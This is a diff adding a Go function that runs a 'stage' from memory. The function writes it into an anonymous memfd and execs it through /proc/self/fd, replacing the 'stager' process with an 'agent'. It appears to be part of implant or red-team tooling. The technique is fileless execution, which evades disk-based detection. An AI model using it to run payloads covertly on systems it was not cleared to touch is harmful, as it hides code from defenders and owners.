@@ -0,0 +1,31 @@
+package main
+
+import (
+	"fmt"
+	"os"
+	"syscall"
+
+	"golang.org/x/sys/unix"
+)
+
+// execute replaces the stager with the agent straight from memory, falling back to a temporary file on
+// kernels without memfd
+func execute(stage []byte, args []string) error {
+	fd, err := unix.MemfdCreate("", unix.MFD_CLOEXEC)
+	if err != nil {
+		return executeFile(stage, args)
+	}
+
+	file := os.NewFile(uintptr(fd), "")
+	if _, err := file.Write(stage); err != nil {
+		file.Close()
+		return err
+	}
+
+	path := fmt.Sprintf("/proc/self/fd/%d", fd)
+	err = syscall.Exec(path, append([]string{os.Args[0]}, args...), os.Environ())
+
+	// only reached if exec failed
+	file.Close()
+	return err
+}